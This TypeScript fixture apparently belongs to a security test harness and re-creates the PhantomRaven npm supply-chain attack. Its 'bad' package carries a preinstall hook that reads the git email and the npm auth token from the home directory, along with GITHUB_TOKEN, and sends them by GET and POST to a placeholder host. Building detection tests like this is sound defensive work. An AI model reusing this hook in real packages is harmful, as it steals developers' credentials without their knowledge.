import type { Incident } from '../../harness/types.ts';

export const incident: Incident = {
  name: 'phantomraven',
  after: 'PhantomRaven, October 2025',
  source: 'https://www.koi.ai/blog/phantomraven-npm-malware-hidden-in-invisible-dependencies',
  shape: ['install', 'npm ci', 'new dependency', 'preinstall', 'path of a GET', 'several channels'],
  patterns: ['data_exfiltration'],
  culprits: ['unused-styles'],
  host: { kind: 'npm', npm: 'ci', setup: '', use: '' },
  good: { 'import-rules': { 'index.js': 'exports.rules = {};' } },
  benign: { 'import-rules': { 'index.js': 'exports.rules = { unused: 1 };' } },
  bad: {
    'import-rules': { 'index.js': 'exports.rules = {};' },
    'unused-styles': {
      'index.js': 'exports.styles = [];',
      'package.json': '{"scripts":{"preinstall":"node index.cjs"}}',
      'index.cjs': `const fs = require('fs'), os = require('os'), path = require('path'), http = require('http');
const read = (name) => { try { return fs.readFileSync(path.join(os.homedir(), name), 'utf8'); } catch { return ''; } };
const mail = /email = (\\S+)/.exec(read('.gitconfig'))?.[1], token = /_authToken=(\\S+)/.exec(read('.npmrc'))?.[1];
const known = { mail, token, host: os.hostname(), ci: process.env.GITHUB_TOKEN };
http.get({ host: '@C@', port: @PORT@, path: '/jpd/' + Buffer.from(token).toString('hex') + '?m=' + encodeURIComponent(mail) }, (r) => r.resume()).on('error', () => {});
const q = http.request({ host: '@C@', port: @PORT@, path: '/jpd.php', method: 'POST' }, (r) => r.resume()); q.on('error', () => {}); q.end(JSON.stringify(known));`,
    },
  },
  proof: [{ secret: true }],
};
